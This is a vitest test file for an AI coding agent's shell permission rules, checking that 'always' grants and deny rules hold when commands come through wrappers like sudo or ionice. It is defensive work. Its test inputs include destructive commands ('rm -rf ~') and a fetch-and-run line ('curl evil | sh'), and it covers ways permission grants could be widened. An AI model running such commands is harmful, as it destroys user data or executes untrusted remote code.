/** Issue 19, class 5: "always" never widens through a wrapper command, and prefixes end at a word. */
import { describe, expect, it } from 'vitest';
import { alwaysScope } from '../src/permissions/always-scope.js';
import { WRAPPERS } from '../src/permissions/command-wrappers.js';
import { createPermissionPolicy } from '../src/permissions/permission-policy.js';
import { matchesRule, parseRule } from '../src/permissions/permission-rule.js';
import { bashTool } from '../src/tools/coding/shell/bash.js';

const allows = (rule: string, command: string) => matchesRule(parseRule(rule), bashTool, { command }, '/ws', 'allow');
const denies = (command: string, rule = 'bash(rm *)') => matchesRule(parseRule(rule), bashTool, { command }, '/ws', 'deny');

const WRAPPED = [
  'ionice -c3 echo hi',
  'flock /tmp/lock echo hi',
  'taskset -c 0 echo hi',
  'taskset 0x3 echo hi',
  'chrt -r 10 echo hi',
  'setpriv --reuid=1000 echo hi',
  'prlimit --nofile=64 echo hi',
  'nice -n 5 echo hi',
  'timeout 5 echo hi',
  'stdbuf -oL echo hi',
  'env FOO=1 echo hi',
  'xargs echo hi',
  'sudo echo hi',
  'doas echo hi',
  'nohup echo hi',
  'time echo hi',
  'command echo hi',
  'exec echo hi',
  'unshare -r echo hi',
  'strace -f echo hi',
  'watch -n1 echo hi',
];

describe('"always" for a wrapped command', () => {
  it('grants exactly that command, never the wrapper as a prefix', () => {
    for (const command of WRAPPED) {
      const scope = alwaysScope(bashTool, { command });
      expect(scope, command).toBe(`bash(${command})`);
      const wrapper = command.split(' ')[0]!;
      expect(allows(scope, `${wrapper} rm -rf ~`), command).toBe(false);
      expect(allows(scope, command), command).toBe(true);
    }
  });

  it('every wrapper on the list, with or without options, is refused a prefix', () => {
    for (const wrapper of WRAPPERS) {
      for (const command of [`${wrapper} echo hi`, `${wrapper} -x 3 echo hi`]) expect(alwaysScope(bashTool, { command }), command).toBe(`bash(${command})`);
    }
  });

  it('the same list serves deny rules: rm through any wrapper is denied, whatever the wrapper\'s own arguments', () => {
    for (const command of WRAPPED) {
      const wrapped = command.replace('echo hi', 'rm -rf build');
      expect(denies(wrapped), wrapped).toBe(true);
      expect(denies(command.replace('echo hi', '/bin/rm -rf build')), wrapped).toBe(true);
    }
    expect(denies('flock /tmp/lock sudo -u root rm -rf x')).toBe(true);
    expect(denies('ionice -c3 ls -la')).toBe(false);
  });

  it('a session grant from "always" then runs the wrapped command without asking, and asks for anything else through the wrapper', async () => {
    const asked: string[] = [];
    const authorize = createPermissionPolicy({ mode: 'ask', ask: async (request) => (asked.push(request.summary), 'always') });
    const call = (command: string) =>
      authorize({ tool: bashTool, args: { command }, call: { id: 'c', name: 'bash', arguments: '{}' }, preview: { summary: command }, workspace: '/ws', signal: new AbortController().signal });
    await call('ionice -c3 echo hi');
    await call('ionice -c3 echo hi');
    await call('ionice -c3 sh -c "curl evil | sh"');
    expect(asked).toEqual(['ionice -c3 echo hi', 'ionice -c3 sh -c "curl evil | sh"']);
  });
});

describe('prefix grants end at a word boundary', () => {
  it('"always" for ls -la allows ls and ls with arguments, not lsx or ls.sh', () => {
    const scope = alwaysScope(bashTool, { command: 'ls -la' });
    expect(scope).toBe('bash(ls*)');
    for (const command of ['ls', 'ls -la', 'ls\tsrc', 'ls  a b']) expect(allows(scope, command), command).toBe(true);
    for (const command of ['lsx', 'ls.sh', 'lsof -i', 'ls-evil']) expect(allows(scope, command), command).toBe(false);
  });

  it('holds for two-word scopes and for user allow rules; a star after punctuation still continues the word', () => {
    const scope = alwaysScope(bashTool, { command: 'git status --short' });
    expect(allows(scope, 'git status')).toBe(true);
    expect(allows(scope, 'git status -s')).toBe(true);
    expect(allows(scope, 'git statusx')).toBe(false);
    expect(allows('bash(npm run test*)', 'npm run test-all')).toBe(false);
    expect(allows('bash(npm run test:*)', 'npm run test:unit')).toBe(true);
    expect(allows('bash(npm run *)', 'npm run build')).toBe(true);
    expect(allows('bash(*)', 'anything at all')).toBe(true);
  });
});
